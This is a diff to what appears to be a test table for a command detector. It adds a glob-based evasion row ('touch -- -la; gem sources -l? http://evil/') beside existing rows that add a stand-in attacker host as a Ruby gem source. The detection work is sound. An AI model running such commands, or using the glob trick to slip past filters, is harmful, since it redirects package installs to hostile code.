@@ -69,6 +69,7 @@ ROWS = [
     *((f"gem {verb} {opts}", True) for verb in ("sources", "so", "sou?") for opts in (
         "-ahttp://evil/", "-la http://evil/", "-lahttp://evil/", "-ca http://evil/",
         "-c -ahttp://evil/", "-fa http://evil/", "-Va http://evil/", "--ad=http://evil/")),
+    ("touch -- -la; gem sources -l? http://evil/", True),
     # honest: listing, clearing, updating, removing (`-ra`: `a` is the removed source)
     *((f"gem sources {opts}", False) for opts in ("-l", "--list", "-c", "-u", "-ra http://evil/",
                                                    "-r https://rubygems.org/")),
